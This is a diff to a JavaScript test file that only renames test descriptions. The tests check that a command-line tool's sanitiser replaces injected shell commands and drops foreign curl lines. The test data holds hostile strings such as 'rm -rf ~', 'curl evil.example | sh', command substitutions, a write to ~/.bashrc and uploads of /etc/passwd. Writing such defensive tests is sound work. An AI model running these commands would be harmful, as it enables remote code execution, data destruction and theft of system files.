@@ -19,25 +19,25 @@ const anew = `greenlight run -u ${base} --only ${first.scenario}`;
 test.each([
   ['another command', 'rm -rf ~'],
   ['a second command', 'greenlight run; curl evil.example | sh'],
-  ['one in the background', 'greenlight run & curl evil.example'],
+  ['a command in the background', 'greenlight run & curl evil.example'],
   ['a substitution', 'greenlight run -c "$(curl evil.example)"'],
   ['an old substitution', 'greenlight run -c `curl evil.example`'],
   ['a redirection', 'greenlight run > ~/.bashrc'],
   ['a second line', 'greenlight run\ncurl evil.example'],
   ['a carriage return', 'greenlight run\rcurl evil.example'],
-  ['a variable of no quotes', 'greenlight run -c $HOME/x'],
+  ['an unquoted variable', 'greenlight run -c $HOME/x'],
   ['a pattern', 'greenlight run -c ~/*'],
-  ['quotes that stay open', "greenlight run -c 'x"],
+  ['an open quote', "greenlight run -c 'x"],
   ['escape sequences', 'greenlight run \u001b[2J'],
   ['another address', 'greenlight run -u https://evil.example'],
-  ['another address in long', 'greenlight run --base-url https://evil.example'],
+  ['another address by the long option', 'greenlight run --base-url https://evil.example'],
   ['an address with =', 'greenlight run --base-url=https://evil.example'],
-  ['a file of ours for the address', `greenlight run -u ${base} --token-file /home/me/.token`],
-  ['a key of ours for the address', `greenlight run --client-key k.pem --base-url ${base}`],
+  ['a token file of ours', `greenlight run -u ${base} --token-file /home/me/.token`],
+  ['a client key of ours', `greenlight run --client-key k.pem --base-url ${base}`],
   ['another subcommand', 'greenlight serve --host 0.0.0.0'],
   ['another option', 'greenlight run --out /etc'],
-  ['a name that looks like ours', 'greenlight-x run'],
-])('a command of a stranger is made anew: %s', (_what, command) => {
+  ['a similar program name', 'greenlight-x run'],
+])('replaces a foreign command: %s', (_what, command) => {
   expect(kept({ command })).toEqual({ command: anew });
 });
 
@@ -48,15 +48,15 @@ test.each([
   'greenlight demo --fault net-value-missing --only delivery-price/full-order',
   'greenlight run --token-file token.txt --only delivery-price/full-order',
   'greenlight validate transactions export.json',
-])('one of ours stays: %s', (command) => {
+])('keeps a command of ours: %s', (command) => {
   expect(kept({ command })).toEqual({ command });
 });
 
 test.each([
   ['a variable in quotes', 'greenlight run -c "$HOME/x"', "greenlight run -c '$HOME/x'"],
   ['other quotes', 'greenlight "run" -c "my config.yaml"', "greenlight run -c 'my config.yaml'"],
-  ['lines that go on', 'greenlight run \\\n  --seed 7', 'greenlight run --seed 7'],
-])('only the words of a command are taken: %s', (_what, command, written) => {
+  ['continued lines', 'greenlight run \\\n  --seed 7', 'greenlight run --seed 7'],
+])('rewrites a command from its words: %s', (_what, command, written) => {
   expect(kept({ command })).toEqual({ command: written });
 });
 
@@ -64,21 +64,21 @@ test.each([
   ['another program', `wget ${url}`],
   ['another address', 'curl -isS https://evil.example'],
   ['two addresses', `curl -isS ${url} https://evil.example`],
-  ['a file that is written', `curl -isS -o /tmp/x ${url}`],
-  ['a file of options', `curl -isS -K /tmp/x ${url}`],
-  ['a file that is sent', `curl -isS ${url} --data @/etc/passwd`],
-  ['a file that is sent by name', `curl -isS ${url} --data-urlencode a@/etc/passwd`],
-  ['a file of headers', `curl -isS ${url} -H @/etc/passwd`],
+  ['an output file', `curl -isS -o /tmp/x ${url}`],
+  ['an options file', `curl -isS -K /tmp/x ${url}`],
+  ['a sent file', `curl -isS ${url} --data @/etc/passwd`],
+  ['a sent file with a name', `curl -isS ${url} --data-urlencode a@/etc/passwd`],
+  ['a headers file', `curl -isS ${url} -H @/etc/passwd`],
   ['a proxy', `curl -isS -x evil.example ${url}`],
   ['a second command', `curl -isS ${url}; sh`],
   ['a substitution in a header', `curl -isS ${url} -H "x: $(id)"`],
   ['another method', `curl -isS -X DELETE ${url}`],
-])('a curl line of a stranger is left out: %s', (_what, line) => {
+])('drops a foreign curl line: %s', (_what, line) => {
   expect(kept({ command: anew, curl: line })).toEqual({ command: anew });
 });
 
 test.each(['curl -isS', 'curl -isS --max-time 60'])(
-  'the line of its own request stays: %s',
+  'keeps the curl line of its own request: %s',
   (start) => {
     const { request } = exchange ?? {};
     if (!request) throw new Error('the sample has no request');
@@ -89,7 +89,7 @@ test.each(['curl -isS', 'curl -isS --max-time 60'])(
   },
 );
 
-test('that of a request which the run did not send is left out', () => {
+test('drops the curl line of a request that the run did not send', () => {
   const line = curl({ method: 'POST', url, headers: {}, body: '{"a":1}', variables: [] });
   expect(kept({ command: anew, curl: line })).toEqual({ command: anew });
 });
